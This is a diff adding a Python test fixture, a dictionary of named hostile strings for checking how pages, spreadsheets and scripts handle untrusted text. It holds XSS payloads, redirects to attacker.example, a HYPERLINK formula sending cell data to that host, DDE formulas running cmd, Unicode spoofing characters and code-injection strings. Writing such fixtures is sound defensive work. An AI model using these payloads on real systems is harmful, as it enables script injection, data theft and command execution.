@@ -1,0 +1,72 @@
+"""Texts that have broken tables, spreadsheets, pages and scripts elsewhere, each by the name of its trick."""
+
+from collections.abc import Mapping
+
+HOSTILE: Mapping[str, str] = {
+    # markup
+    "image": "<img src=x onerror=\"window.__pwned='image'\">",
+    "script": "<script>window.__pwned='script'</script>",
+    "svg": "<svg onload=\"window.__pwned='svg'\"><circle r=9></svg>",
+    "frame": "<iframe srcdoc=\"<script>parent.__pwned='frame'</script>\"></iframe>",
+    "style": "<style>*{display:none!important}</style>",
+    "link": "<a href=\"javascript:window.__pwned='link'\">click me</a>",
+    "form": '<form action="https://attacker.example"><input autofocus onfocus="window.__pwned=1"></form>',
+    "details": "<details open ontoggle=\"window.__pwned='details'\">x</details>",
+    "math": "<math><mtext></form><mglyph><style></math><img src onerror=window.__pwned=1>",
+    "comment": "<!--><img src=x onerror=window.__pwned=1>-->",
+    "table end": "</td></tr></table><h1>Maintenance: log in again</h1>",
+    "script end": "</script><script>window.__pwned='end'</script>",
+    "textarea end": "</textarea><img src=x onerror=window.__pwned=1>",
+    "attribute end": "\" onmouseover=\"window.__pwned='attribute'\" x=\"",
+    "single quotes": "' onmouseover='window.__pwned=1' x='",
+    "backticks": "`${window.__pwned='ticks'}`",
+    "entity": "&lt;img src=x onerror=window.__pwned=1&gt; &#60;b&#62;",
+    "unclosed": "<b",
+    "base": '<base href="https://attacker.example/">',
+    "refresh": '<meta http-equiv="refresh" content="0;url=https://attacker.example">',
+    "template": "{{constructor.constructor('window.__pwned=1')()}}",
+    # script URLs, and what a page may take for a link
+    "javascript URL": "javascript:window.__pwned='url'",
+    "javascript URL, tab": "java\tscript:window.__pwned='url'",
+    "data URL": "data:text/html,<script>window.__pwned=1</script>",
+    "vbscript URL": "vbscript:msgbox(1)",
+    # formulas
+    "formula": "=1+1",
+    "link formula": '=HYPERLINK("https://attacker.example?x="&A1,"Error: click")',
+    "DDE": "=cmd|' /C calc'!A0",
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab before a formula": "\t=1+1",
+    "return before a formula": "\r=1+1",
+    "fullwidth formula": "\uff1d1+1",
+    "semicolons": ";=1+1;",
+    # directions, and what cannot be seen
+    "right-to-left override": "user\u202egnp.exe",
+    "isolates": "\u2066admin\u2069\u2067nimda\u2069",
+    "zero width": "ad\u200bmin\ufeff",
+    "tags": "admin\U000e0041\U000e0042",
+    "combining": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 30,
+    "Hebrew and Latin": "\u05e9\u05dc\u05d5\u05dd (abc) \u05e2\u05d5\u05dc\u05dd",
+    "look-alike": "\u0430dmin",
+    # control characters
+    "NUL": "nul\x00here",
+    "escape": "\x1b]0;title\x07\x1b[31mred",
+    "backspaces": "good\x08\x08\x08\x08evil",
+    "line ends": "one\r\ntwo\rthree\u2028four\u0085five",
+    "delete": "\x7f\x80\x9f",
+    # code
+    "triple quotes": "'''); import os; os.abort() #",
+    "quote and backslash": '"\n\\',
+    "comment in code": "# noqa\n    raise SystemExit",
+    "braces": "{0}{x!r:>{y}}%s%n$(id)`id`",
+    "backslash at the end": "C:\\users\\",
+    "formula of a cell's name": "_x0041_",
+    "mathjax": "$$\\href{javascript:window.__pwned=1}{x}$$ $\\unicode{x41}$",
+    "markdown": "![x](javascript:window.__pwned=1) [y](https://attacker.example) **z**",
+    "JSON": '{"type": "state", "counts": null}',
+    # size
+    "100 kB": "A" * 100_000,
+    "100 kB of markup": "<i>" * 33_334,
+    "many words": "word " * 4_000,
+}
